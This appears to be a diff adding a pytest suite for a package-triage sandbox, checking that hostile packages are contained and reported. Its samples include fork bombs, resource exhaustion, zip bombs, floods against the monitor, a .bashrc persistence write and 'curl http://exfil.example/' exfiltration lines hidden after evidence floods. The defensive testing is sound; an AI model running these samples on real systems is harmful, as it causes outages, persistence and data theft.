@@ -1,0 +1,433 @@
+"""A package that takes all it can get is stopped in the right way, is reported once, and leaves nothing."""
+
+import io
+import os
+import zipfile
+from pathlib import Path
+from typing import Any
+
+import pytest
+from conftest import Snakehook
+from hostile import PROBES, assert_nothing_is_left, findings
+from standins import Drip, Endless, Index, wheel
+
+pytestmark = pytest.mark.unmet
+
+as_root = pytest.mark.skipif(os.geteuid() != 0, reason="only root gets a tmpfs and cgroups")
+
+
+@pytest.fixture
+def exhaust(jail: None, snakehook: Snakehook, index: Index) -> Any:
+    """`exhaust(source, NAME=value)`: the report of a package whose import runs `source`; nothing is left of it."""
+
+    def run(source: str, **settings: object) -> dict[str, Any]:
+        index.add_wheel("hungry", "1.0", {"hungry.py": PROBES + source})
+        _, report, _ = snakehook.triage("hungry", "--mode", "import", **settings)
+        places = snakehook.environment
+        assert_nothing_is_left(Path(places["STATE_DIR"]), Path(places["PIP_CACHE_DIR"]))
+        assert report["status"] == "finished"
+        return report
+
+    return run
+
+
+def last_outcome(report: dict[str, Any]) -> str:
+    outcome: str = report["phases"][-1]["outcome"]
+    return outcome
+
+
+# --- time -------------------------------------------------------------------------------------------------------------
+
+WAITING = {
+    "busy loop": "while True: pass",
+    "idle sleep": "time.sleep(3600)",
+    "stopped process": "os.kill(os.getpid(), signal.SIGSTOP)",
+    "wait for a child that never ends": "os.waitpid(os.fork() or os.kill(os.getpid(), 19) or 0, 0)",
+    "read from a FIFO without a writer": "os.mkfifo('/tmp/f'); open('/tmp/f').read()",
+}
+
+
+@pytest.mark.parametrize("source", WAITING.values(), ids=WAITING)
+def test_what_never_ends_is_ended_as_a_timeout(exhaust: Any, source: str) -> None:
+    report = exhaust(source, RUN_TIMEOUT_SEC=3)
+    assert (report["outcome"], last_outcome(report)) == ("timeout", "timeout")
+    assert "RUN_TIMEOUT_SEC" in report["reason"]
+    assert findings(report, "limit.hit")
+
+
+def test_cpu_time_is_bounded_apart_from_the_deadline(exhaust: Any) -> None:
+    report = exhaust("while True: pass", RLIMIT_CPU_SEC=1)
+    assert report["outcome"] == "failed"
+    assert report["phases"][-1]["signal"] in ("SIGXCPU", "SIGKILL")
+
+
+# --- memory -----------------------------------------------------------------------------------------------------------
+
+
+@as_root
+def test_one_process_that_takes_all_memory_ends_as_memory_by_the_cgroup_s_account(exhaust: Any) -> None:
+    report = exhaust(
+        "eaten = []\nwhile True: eaten.append(b'x' * (1 << 20))", RLIMIT_AS_MB=128, MAX_DISK_BYTES=20_000_000
+    )
+    assert report["outcome"] == "memory"
+
+
+@as_root
+def test_many_processes_that_take_all_memory_together_end_as_memory(exhaust: Any) -> None:
+    source = """
+for _ in range(16):
+    if os.fork() == 0:
+        eaten = b"x" * (24 << 20)
+        time.sleep(3600)
+os.wait()
+raise SystemExit("one was killed")
+"""
+    report = exhaust(source, RLIMIT_AS_MB=128, MAX_DISK_BYTES=20_000_000)
+    assert report["outcome"] == "memory"
+
+
+@as_root
+def test_memory_that_belongs_to_no_process_counts_too(exhaust: Any) -> None:
+    source = """
+fds = []
+while True:
+    fd = os.memfd_create("m")
+    fds.append(fd)
+    os.write(fd, bytes(1 << 20))
+"""
+    report = exhaust(source, RLIMIT_AS_MB=128, MAX_DISK_BYTES=20_000_000, RLIMIT_NOFILE=4096, RUN_TIMEOUT_SEC=20)
+    assert report["outcome"] == "memory"
+
+
+def test_an_exit_code_of_137_is_no_memory(exhaust: Any) -> None:
+    report = exhaust("os._exit(137)")
+    assert (report["outcome"], report["phases"][-1]["exit_code"]) == ("failed", 137)
+
+
+# --- processes, threads, descriptors ----------------------------------------------------------------------------------
+
+
+def test_a_fork_bomb_ends_with_its_phase(exhaust: Any) -> None:
+    source = """
+while True:
+    try: os.fork()
+    except OSError: pass
+"""
+    report = exhaust(source, RUN_TIMEOUT_SEC=3, CGROUP_PIDS_MAX=40)
+    assert report["outcome"] in ("timeout", "memory")
+
+
+def test_a_fork_bomb_whose_processes_end_at_once_fills_no_report(exhaust: Any) -> None:
+    source = """
+end = time.monotonic() + 2
+while time.monotonic() < end:
+    if (pid := os.fork()) == 0: os._exit(0)
+    os.waitpid(pid, 0)
+"""
+    report = exhaust(source, RUN_TIMEOUT_SEC=15)
+    assert report["outcome"] == "ok"
+    assert len(report["processes"]) <= 500
+
+
+def test_threads_and_descriptors_are_bounded(exhaust: Any) -> None:
+    source = """
+import threading
+pause = threading.Event()
+threads = fds = 0
+try:
+    while threads < 2000:
+        threading.Thread(target=pause.wait, daemon=True).start()
+        threads += 1
+except (RuntimeError, MemoryError):
+    pass
+try:
+    while fds < 5000:
+        os.dup(0)
+        fds += 1
+except OSError:
+    pass
+print(threads, fds, flush=True)
+os._exit(0)
+"""
+    report = exhaust(source, CGROUP_PIDS_MAX=40, RLIMIT_NOFILE=200)
+    threads, fds = map(int, report["phases"][-1]["stdout"]["text"].split())
+    assert threads <= 44
+    assert fds <= 200
+
+
+# --- disk -------------------------------------------------------------------------------------------------------------
+
+FILLING = {
+    "one file": "f = open('/tmp/f', 'wb')\nwhile True: f.write(bytes(1 << 20))",
+    "shared memory": "f = open('/dev/shm/f', 'wb')\nwhile True: f.write(bytes(1 << 20))",
+    "a deleted file": "f = open('/tmp/f', 'wb'); os.remove('/tmp/f')\nwhile True: f.write(bytes(1 << 20))",
+    "empty files": "n = 0\nwhile n < 1_000_000: open(f'/tmp/{n}', 'w').close(); n += 1",
+    "folders": "n = 0\nwhile n < 1_000_000: os.mkdir(f'/tmp/{n}'); n += 1",
+    "links": "n = 0\nwhile n < 1_000_000: os.symlink('/' + 'x' * 4000, f'/tmp/{n}'); n += 1",
+}
+
+
+@as_root
+@pytest.mark.parametrize("source", FILLING.values(), ids=FILLING)
+def test_whatever_fills_the_disk_ends_as_disk(exhaust: Any, source: str) -> None:
+    report = exhaust(source, MAX_DISK_BYTES=10_000_000, RUN_TIMEOUT_SEC=30)
+    assert report["outcome"] == "disk"
+    assert "MAX_DISK_BYTES" in report["reason"]
+
+
+def test_a_huge_sparse_file_takes_no_time_and_no_disk(exhaust: Any) -> None:
+    source = """
+f = open('/tmp/sparse', 'wb')
+try: f.truncate(1 << 50)
+except OSError: f.truncate(900_000_000)
+open('/home/dev/.bashrc', 'w').truncate(900_000_000)
+"""
+    report = exhaust(source)
+    assert report["outcome"] == "ok"
+    assert "/home/dev/.bashrc" in {one["path"] for one in report["files"]}
+
+
+def test_folders_a_thousand_deep_and_odd_files_hold_nothing_up(exhaust: Any) -> None:
+    source = """
+os.mkdir(b'/tmp/not-utf8-\\xff\\xfe'); open(b'/tmp/not-utf8-\\xff\\xfe/\\x80\\n\\x1b[2J', 'w').close()
+os.mkfifo('/home/dev/fifo'); os.symlink('/dev/zero', '/home/dev/zero'); os.symlink('loop', '/home/dev/loop')
+socket.socket(socket.AF_UNIX).bind('/home/dev/socket')
+for n in range(100): os.symlink('/', f'/tmp/out{n}')
+os.makedirs('/tmp/shut'); open('/tmp/shut/in', 'w').close(); os.chmod('/tmp/shut', 0)
+os.chdir('/tmp')
+for _ in range(1000): os.mkdir('deep'); os.chdir('deep')
+open('at-the-bottom', 'w').close()
+"""
+    report = exhaust(source)
+    assert report["outcome"] == "ok"
+    assert "/home/dev/fifo" in {one["path"] for one in report["files"]}
+    assert not any("\n" in one["path"] or "\x1b" in one["path"] for one in report["files"])
+
+
+# --- output -----------------------------------------------------------------------------------------------------------
+
+TALKING = {
+    "without newlines": "while True: os.write(1, b'x' * 65536)",
+    "of newlines": "while True: os.write(1, b'\\n' * 65536)",
+    "not UTF-8": "while True: os.write(1, b'\\xff\\xfe\\x00\\x1b]' * 13000)",
+    "on both": "while True: os.write(1, b'x' * 65536); os.write(2, b'\\xf0\\x9f' * 30000)",
+}
+
+
+@pytest.mark.parametrize("source", TALKING.values(), ids=TALKING)
+def test_endless_output_is_counted_and_cut(exhaust: Any, source: str) -> None:
+    report = exhaust(source, RUN_TIMEOUT_SEC=3)
+    assert report["outcome"] == "timeout"
+    assert report["phases"][-1]["name"] == "import", report["reason"]
+    out = report["phases"][-1]["stdout"]
+    assert out["truncated"]
+    assert out["bytes"] > 1 << 20 >= len(out["text"])
+
+
+# --- what the index gives ---------------------------------------------------------------------------------------------
+
+
+def install(snakehook: Snakehook, name: str, **settings: object) -> dict[str, Any]:
+    _, report, _ = snakehook.triage(name, **settings)
+    places = snakehook.environment
+    assert_nothing_is_left(Path(places["STATE_DIR"]), Path(places["PIP_CACHE_DIR"]))
+    return report
+
+
+@as_root
+def test_a_wheel_that_is_a_zip_bomb_fills_the_run_s_disk_and_no_more(
+    jail: None, snakehook: Snakehook, index: Index
+) -> None:
+    filename, data = wheel("bomb", "1.0", {"bomb.py": ""})
+    buffer = io.BytesIO(data)
+    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
+        for number in range(8):
+            archive.writestr(f"bomb-data/{number}", bytes(20_000_000))
+    index.add_file("bomb", filename, buffer.getvalue())
+    assert len(buffer.getvalue()) < 1_000_000
+    assert install(snakehook, "bomb", MAX_DISK_BYTES=30_000_000)["outcome"] == "disk"
+
+
+def test_a_wheel_of_a_hundred_thousand_files_ends_within_its_limits(
+    jail: None, snakehook: Snakehook, index: Index
+) -> None:
+    filename, data = wheel("many", "1.0", {"many.py": ""})
+    buffer = io.BytesIO(data)
+    with zipfile.ZipFile(buffer, "a") as archive:
+        for number in range(100_000):
+            archive.writestr(f"many_data/{number}", b"")
+    index.add_file("many", filename, buffer.getvalue())
+    report = install(snakehook, "many", RUN_TIMEOUT_SEC=10)
+    assert report["outcome"] in ("ok", "timeout", "disk", "failed")
+    assert len(report["files"]) <= 500
+
+
+DOWNLOADS = {
+    "endless": (Endless(), "download_cap"),
+    "oversized": (Endless(headers={"Content-Length": "99999999999"}), "download_cap"),
+    "dripping": (Drip(b"x" * 1000, gap_sec=0.2), "timeout"),
+    "silent": (Endless(chunk=b"", gap_sec=0.2), "timeout"),
+}
+
+
+@pytest.mark.parametrize(("answer", "outcome"), DOWNLOADS.values(), ids=DOWNLOADS)
+def test_a_download_that_does_not_end_is_cut(
+    jail: None, snakehook: Snakehook, index: Index, answer: Any, outcome: str
+) -> None:
+    index.add_wheel("load", "1.0", {"load.py": ""})
+    index.entry("load", core_metadata=None)
+    index.answer("/files/load-1.0-py3-none-any.whl", answer)
+    report = install(
+        snakehook, "load", RUN_TIMEOUT_SEC=15 if outcome == "download_cap" else 4, MAX_DOWNLOAD_BYTES=2_000_000
+    )
+    assert report["outcome"] == outcome
+    assert report["downloads"] == []
+
+
+# --- floods against the warden ----------------------------------------------------------------------------------------
+
+FLOOD_INDEX = """
+def flood():
+    kept = []
+    for number in range(10_000):
+        one = socket.socket()
+        one.settimeout(5)
+        try:
+            one.connect(("127.0.0.1", 3141))
+            kept = [*kept[-100:], one]
+        except OSError:
+            pass
+if not os.path.exists("/tmp/flooded"):
+    open("/tmp/flooded", "w").close()
+    flood()
+"""
+
+
+def test_ten_thousand_connections_to_the_index_stop_neither_it_nor_the_run(
+    jail: None, snakehook: Snakehook, index: Index
+) -> None:
+    index.add_backend_sdist("flood", "1.0", PROBES + FLOOD_INDEX, {"flood.py": ""})
+    report = install(snakehook, "flood", RUN_TIMEOUT_SEC=30)
+    assert report["outcome"] == "ok", report["reason"]
+    assert any("too many connections" in note for note in report["coverage"]["notes"])
+
+
+BIG_PAGE = """
+import threading
+def ask():
+    one = socket.create_connection(("127.0.0.1", 3141))
+    one.sendall(b"GET /simple/large/ HTTP/1.1\\r\\n\\r\\n")
+    while one.recv(1 << 20): pass
+if not os.path.exists("/tmp/asked"):
+    open("/tmp/asked", "w").close()
+    for _ in range(30): threading.Thread(target=ask, daemon=True).start()
+    time.sleep(1)
+os.popen("true").read()
+"""
+
+
+def test_many_requests_for_a_large_page_at_once_do_not_use_up_the_warden_s_memory(
+    jail: None, snakehook: Snakehook, index: Index
+) -> None:
+    index.add_wheel("large", "1.0", {"large.py": ""})
+    for number in range(30_000):
+        entry = {
+            "filename": f"large-{number}.tar.gz",
+            "url": f"/files/{number}",
+            "hashes": {"sha256": f"{number:064x}"},
+        }
+        index._entries["large"].append(entry)
+    index.add_backend_sdist("asker", "1.0", PROBES + BIG_PAGE, {"asker.py": ""})
+    report = install(snakehook, "asker", RUN_TIMEOUT_SEC=20)
+    assert report["outcome"] in ("ok", "timeout"), report["reason"]
+    assert findings(report, "process.spawn")
+
+
+FLOODS = {
+    "DNS questions": """
+name = b"".join(bytes([7]) + b"%07d" % 7 for _ in range(3)) + b"\\0"
+with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
+    one.setblocking(False)
+    for n in range(50_000):
+        question = b"id\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\7%07d\\0\\0\\1\\0\\1" % n
+        try: one.sendto(question, ("127.0.0.1", 53))
+        except BlockingIOError: pass
+""",
+    "audit lines": """
+fd = os.open("/opt/snakehook/audit", os.O_WRONLY)
+for n in range(50_000): os.write(fd, b'{"event": "spawn", "pid": %d, "what": "%d", "at": "x"}\\n' % (n, n))
+for _ in range(2_000): os.write(fd, b"[" * 4000 + b"\\n")
+os.write(fd, b"x" * 1_000_000)
+""",
+    "execs": """
+for n in range(3000):
+    if (pid := os.fork()) == 0: os.execv("/bin/true", ["true", str(n)])
+    os.waitpid(pid, 0)
+""",
+    "failing execs with much to say": """
+for n in range(100):
+    try: os.execv(f"/nowhere/{n}", [f"{n}", *(chr(65 + n % 26) * 4096 for _ in range(200))])
+    except OSError: pass
+""",
+    "addresses": """
+for n in range(20_000):
+    try: socket.socket(socket.AF_UNIX).connect(f"\\0{n:0100}")
+    except OSError: pass
+""",
+}
+
+
+@pytest.mark.parametrize("flood", FLOODS.values(), ids=FLOODS)
+def test_a_flood_of_evidence_is_bounded_and_hides_nothing_that_comes_after(exhaust: Any, flood: str) -> None:
+    report = exhaust(flood + "\nos.popen('curl http://exfil.example/').read()\n", RUN_TIMEOUT_SEC=40)
+    assert report["outcome"] == "ok", report["reason"]
+    assert len(str(report)) < 20_000_000
+    assert any("curl" in title for title in findings(report, "process.spawn"))
+
+
+# Each of these keeps the warden busy after the phase's end, when the service waits WARDEN_GRACE_SEC and no longer.
+AFTERMATHS = {
+    "a hundred files to search for bait": """
+text = (os.environ["GITHUB_TOKEN"][-1] * 1_000_000).encode()
+for n in range(100): open(f"/tmp/{n:03}", "wb").write(text)
+""",
+    "two accounts with much to compare": """
+fd = os.open("/opt/snakehook/audit", os.O_WRONLY)
+for n in range(2000):
+    what = json.dumps("x" * 3800 + str(n))
+    os.write(fd, b'{"event": "address", "pid": %d, "what": %s, "at": "x"}\\n' % (os.getpid(), what.encode()))
+for n in range(2000):
+    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
+        with socket.socket(socket.AF_INET, kind) as one:
+            one.setblocking(False)
+            try: one.connect((f"127.1.{n // 250}.{n % 250 + 1}", 9))
+            except OSError: pass
+""",
+}
+
+
+@pytest.mark.parametrize("source", AFTERMATHS.values(), ids=AFTERMATHS)
+def test_no_evidence_is_so_laborious_that_the_warden_is_not_waited_for(exhaust: Any, source: str) -> None:
+    report = exhaust(source + "\nos.popen('curl http://exfil.example/').read()\ntime.sleep(3600)\n", RUN_TIMEOUT_SEC=8)
+    assert report["outcome"] == "timeout", report["reason"]
+    assert any("curl" in title for title in findings(report, "process.spawn"))
+
+
+def test_a_long_row_of_harmless_findings_does_not_push_a_grave_one_out(exhaust: Any) -> None:
+    source = """
+for n in range(700):
+    if (pid := os.fork()) == 0: os.execv("/bin/true", ["true", str(n)])
+    os.waitpid(pid, 0)
+os.popen("curl http://exfil.example/").read()
+"""
+    report = exhaust(source, RUN_TIMEOUT_SEC=40)
+    assert any(one["severity"] == "high" and "curl" in one["title"] for one in report["findings"])
+
+
+def test_many_new_files_do_not_push_out_the_one_that_matters(exhaust: Any) -> None:
+    source = """
+for n in range(2500): open(f"/home/dev/.a{n:05}", "w").close()
+open("/home/dev/.bashrc", "w").write("echo persisted")
+"""
+    report = exhaust(source)
+    assert any(".bashrc" in title for title in findings(report, "persistence.write"))
